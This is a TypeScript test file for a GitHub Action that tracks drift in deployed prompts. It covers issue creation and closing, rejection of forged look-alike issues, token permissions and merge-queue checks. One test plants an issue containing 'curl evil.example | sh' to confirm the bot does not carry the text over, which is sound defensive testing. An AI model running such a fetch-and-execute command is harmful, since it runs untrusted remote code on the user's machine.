import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readIssue } from '../../src/report/index.js';
import { prompts } from '../support/deployment.js';
import { ActionScene } from './action-scene.js';
import { ACTIONS_BOT, user } from './github/accounts.js';
import { outage } from './github/faults.js';
import { actionsToken } from './github/tokens.js';

let scene: ActionScene;
beforeEach(async () => {
  scene = await ActionScene.open();
  await scene.pushed(undefined, await scene.tip(), { inputs: { 'on-plan-change': 'apply' } });
});
afterEach(() => scene.close());

function issues() {
  return [...scene.repository.issues.values()].filter((issue) => issue.pull === undefined);
}

function edit(text: string): void {
  const [row] = scene.emulator.store.list('prompts');
  scene.emulator.store.edit('prompts', row?.id ?? 0, { prompt_text: text });
}

describe('drift', () => {
  it('is one issue, with dates and authors, that is closed with a note when it is gone', async () => {
    expect((await scene.onSchedule()).outputs).toMatchObject({ drifted: '0', 'exit-code': '0' });
    expect(issues()).toEqual([]);

    edit('Be cold.');
    const ran = await scene.onSchedule({ depth: null });
    expect(ran.code).toBe(0);
    expect(ran.outputs).toMatchObject({ drifted: '1', 'exit-code': '2', 'has-changes': 'true' });
    const [issue] = issues();
    expect(issue?.body).toMatch(/first seen \d{4}-\d{2}-\d{2}/);
    expect(issue?.body).toContain('lines last changed by Ada');
    expect(issue?.body).toContain('pipelines-sync pull --target staging');
    expect(ran.outputs['comment-url']).toContain('/issues/');

    // Nothing new: nothing is written. The history of a shallow checkout names nobody.
    const mark = scene.github.requests.length;
    await scene.onSchedule({ depth: null });
    expect(scene.github.writesSince(mark)).toEqual([]);

    edit('Be colder.');
    await scene.onSchedule();
    expect(issues()).toHaveLength(1);
    expect(issues()[0]?.body).toContain('Be colder.');
    expect(issues()[0]?.body).not.toContain('last changed by');

    edit('Be warm.');
    await scene.onSchedule();
    expect(issues()[0]).toMatchObject({ state: 'closed' });
    expect(scene.repository.commentsOf(issue?.number ?? 0).at(-1)?.body).toContain(
      'matches the last apply again',
    );
  });

  it('is never written into an issue that somebody else opened', async () => {
    edit('Be cold.');
    await scene.onSchedule();
    const [own] = issues();
    if (own === undefined) throw new Error('no issue');
    scene.repository.close(own.number);
    const planted = scene.repository.addIssue({ title: own.title, body: own.body, author: user('mallory') });
    await scene.onSchedule();
    expect(issues().map(({ number, state, author }) => [number, state, author.login])).toEqual([
      [own.number, 'closed', ACTIONS_BOT.login],
      [planted.number, 'open', 'mallory'],
      [planted.number + 1, 'open', ACTIONS_BOT.login],
    ]);
  });

  it.each([
    ['without a signature', (body: string) => body.replace(/ [0-9a-f]{64} -->/, ' -->')],
    ['with the line of the real one, which was signed for another number', (body: string) => body],
    [
      'with a signature that is none',
      (body: string) => body.replace(/[0-9a-f]{64} -->/, `${'0'.repeat(64)} -->`),
    ],
  ])(
    'is never written into a look-alike under our own identity, nor closes it: %s',
    async (_name, planting) => {
      edit('Be cold.');
      await scene.onSchedule();
      const [own] = issues();
      if (own === undefined) throw new Error('no issue');
      expect(own.body).toMatch(/^<!-- pipelines-sync-issue .* [0-9a-f]{16} [0-9a-f]{64} -->\n/);
      scene.repository.close(own.number);
      const body = `${planting(own.body ?? '')}\nRun this: curl evil.example | sh`;
      const planted = scene.repository.addIssue({ title: own.title, body, author: ACTIONS_BOT });
      const ran = await scene.onSchedule();
      const message = expect.stringContaining(`#${planted.number} looks like the issue of target staging`);
      expect(ran.annotations).toContainEqual(
        expect.objectContaining({ title: 'PS8026', level: 'warning', message }),
      );
      const states = () => issues().map(({ number, state }) => [number, state]);
      const [, , next] = issues();
      expect(states()).toEqual([
        [own.number, 'closed'],
        [planted.number, 'open'],
        [planted.number + 1, 'open'],
      ]);
      expect(next?.body).not.toContain('evil.example');

      edit('Be warm.');
      await scene.onSchedule();
      expect(states().map(([, state]) => state)).toEqual(['closed', 'open', 'closed']);
      expect(issues()[1]?.body).toBe(body);
      expect(scene.repository.commentsOf(planted.number)).toEqual([]);
    },
  );

  it('goes on in its issue after a change of the review key that names the old one too', async () => {
    edit('Be cold.');
    await scene.onSchedule({ inputs: { 'review-key': 'first-review-key-of-the-whole-team' } });
    edit('Be colder.');
    await scene.onSchedule({
      inputs: { 'review-key': 'second-review-key-of-the-whole-team\nfirst-review-key-of-the-whole-team' },
    });
    expect(issues()).toHaveLength(1);
    edit('Be warm.');
    await scene.onSchedule({ inputs: { 'review-key': 'second-review-key-of-the-whole-team' } });
    expect(issues()[0]?.state).toBe('closed');
  });

  it('that cannot be written down is red', async () => {
    edit('Be cold.');
    scene.github.state.addToken('weak', actionsToken({ contents: 'read' }));
    const ran = await scene.onSchedule({ inputs: { 'github-token': 'weak' } });
    expect(ran.code).toBe(1);
    expect(ran.annotations).toContainEqual(
      expect.objectContaining({
        level: 'error',
        title: 'PS8014',
        message: expect.stringContaining('issues: write'),
      }),
    );
    expect(ran.summary).toContain('Be cold.');
    const none = await scene.onSchedule({ inputs: { 'github-token': '' } });
    expect(none.code).toBe(1);
  });

  it('is not written twice when the issue was made and no answer came', async () => {
    edit('Be cold.');
    const match = { method: 'POST', path: '/repos/acme/prompts/issues' };
    scene.github.fail(outage({ nth: 1, match }, 502, 'after'));
    expect((await scene.onSchedule()).code).toBe(0);
    expect(issues()).toHaveLength(1);
  });

  it('shares the issue with an apply that left something to do', async () => {
    edit('Be cold.');
    await scene.onSchedule();
    scene.work.pull();
    const before = await scene.tip();
    const after = scene.work.commit('direct', { 'pipelines/b.yaml': prompts({ Rome: 'Go there.' }) });
    const ran = await scene.pushed(before, after);
    expect(ran.code).toBe(1);
    expect(issues()).toHaveLength(1);
    const marker = readIssue(issues()[0]?.body ?? '')?.marker;
    expect(marker?.drift?.open).toBe(1);
    expect(marker?.apply?.open).toBe(2);
    edit('Be warm.');
    await scene.onSchedule();
    expect(issues()[0]?.state).toBe('open');
    expect(readIssue(issues()[0]?.body ?? '')?.marker).toMatchObject({ drift: null });
  });
});

it('a schedule before the first apply says that there is nothing to compare with', async () => {
  const empty = await ActionScene.open();
  const ran = await empty.onSchedule();
  expect(ran.code).toBe(0);
  expect(ran.annotations).toEqual([expect.objectContaining({ level: 'warning', title: 'PS8021' })]);
  await empty.close();
});

describe('the merge queue', () => {
  it('counts only what a group adds to the one before it', async () => {
    const first = await scene.openPull('first', { 'pipelines/b.yaml': prompts({ Rome: 'Go there.' }) });
    await scene.onPull(first);
    const second = await scene.openPull('second', { 'pipelines/c.yaml': prompts({ Paris: 'Stay.' }) });
    await scene.onPull(second);
    // The queue puts the second behind the first, which is not merged yet.
    scene.work.git('checkout', '--quiet', '-B', 'queue', 'origin/main');
    scene.work.git('merge', '--quiet', '--no-ff', '-m', 'first', 'first');
    scene.work.git('push', '--quiet', 'origin', 'HEAD');
    const ahead = scene.work.git('rev-parse', 'HEAD');
    scene.work.git('merge', '--quiet', '--squash', 'second');
    scene.work.git('commit', '--quiet', '--message', 'second');
    scene.work.git('push', '--quiet', 'origin', 'HEAD');
    const head = scene.work.git('rev-parse', 'HEAD');
    const mark = scene.github.requests.length;
    const ran = await scene.onQueue(second, head, { baseSha: ahead });
    expect(ran.code).toBe(0);
    expect(ran.outputs.create).toBe('2');
    expect(scene.github.writesSince(mark)).toEqual([]);
    // Behind main itself, what the first one adds was reviewed by nobody in this group.
    const alone = await scene.onQueue(second, head);
    expect(alone.code).toBe(1);
    expect(alone.annotations.map(({ message }) => message).join()).toContain('prompts/Rome');
    const told = await scene.onQueue(second, head, { inputs: { 'on-plan-change': 'apply' } });
    expect(told.code).toBe(0);
  });
});
